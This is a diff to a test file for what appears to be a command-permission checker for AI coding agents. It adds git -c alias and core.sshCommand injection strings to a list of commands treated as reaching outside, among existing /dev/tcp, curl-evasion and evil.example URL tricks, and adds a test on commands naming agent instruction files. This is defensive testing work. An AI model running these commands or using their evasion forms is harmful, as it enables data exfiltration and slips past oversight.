@@ -38,6 +38,7 @@ OUTSIDE = [
     "cat a > /dev/tcp/a/1", "exec 3<>/dev/tcp/a/1", "sudo curl x", "env A=1 curl x", "timeout 5 curl x", "sh -c 'curl x'",
     "find . -exec curl {} \\;", "xargs curl < a", "eval 'curl x'", "$(curl x)", "echo `curl x`", "ls; git push", "a | b && curl x",
     "curl http://localhost.evil.example", "curl http://127.0.0.1@evil.example", "curl http://localhost:80@evil.example/",
+    "git -c alias.p=push p", "git -c core.sshCommand=x st",
     "curl localhost --proxy http://evil.example", "openssl s_client -connect a:443", "npm login", "ngrok http 80",
 ]  # fmt: skip
 LEADING = [
@@ -184,6 +185,7 @@ def test_which_commands_may_bring_in_files_that_lead_others() -> None:
         assert not moves_work_tree(command), command
     assert names_leading("cat a > AGENTS.md")
     assert not names_leading("pytest tests")
+    assert not names_leading("cat CLAUDE.md; python3 x.py")
 
 
 @given(st.text(max_size=60), st.booleans())
